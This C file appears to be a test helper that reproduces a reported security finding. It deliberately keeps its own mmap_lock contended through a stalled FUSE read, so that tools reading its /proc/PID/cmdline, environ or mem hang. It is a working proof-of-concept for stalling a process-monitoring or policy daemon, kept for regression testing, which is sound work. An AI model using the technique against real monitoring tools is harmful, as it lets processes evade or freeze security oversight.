// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * Test app (the attacker of issue 25 finding 1): keeps its own mmap_lock contended so
 * that any reader of its /proc/PID/cmdline (or environ, or mem) waits for a FUSE server.
 *
 *   qj-mmaplock FILE [ARGS...]
 *
 * Maps FILE (on a FUSE mount whose server does not answer reads), and a thread reads
 * the mapping through pread(/proc/self/mem): that holds the mmap_lock for reading while
 * the FUSE read waits.  Prints "ready" (the read is under way once the server saw it).
 * On a line on stdin the main thread prints "locking TID" and calls mmap(), which queues
 * for the write lock behind the reader: from then on every new reader queues behind it.
 * ARGS only make the cmdline a policy can match.
 *
 * No sanitizers (CMakeLists.txt): an allocation after the lock is stuck would take it too,
 * so nothing here allocates once the reader runs (write(2) of stack buffers only).
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static void *map;

static void say(const char *text)
{
	(void)!write(STDOUT_FILENO, text, strlen(text));
}

static void *reader(void *arg)
{
	char c;
	int fd = open("/proc/self/mem", O_RDONLY | O_CLOEXEC);

	(void)arg;
	if (fd >= 0)
		(void)!pread(fd, &c, 1, (off_t)(unsigned long)map);
	say("reader returned\n");
	return NULL;
}

int main(int argc, char **argv)
{
	char line[64];
	pthread_t th;
	int fd;

	if (argc < 2) {
		fprintf(stderr, "usage: qj-mmaplock FILE [ARGS...]\n");
		return 2;
	}
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		perror(argv[1]);
		return 1;
	}
	map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED) {
		perror("mmap");
		return 1;
	}
	if (pthread_create(&th, NULL, reader, NULL) != 0)
		return 1;
	say("ready\n");
	if (read(STDIN_FILENO, line, sizeof(line)) <= 0)
		return 0;
	snprintf(line, sizeof(line), "locking %d\n", gettid());
	say(line);
	/* Queued for the write lock behind the reader, for as long as the server waits. */
	(void)mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	say("mapped again\n");
	pause();
	return 0;
}
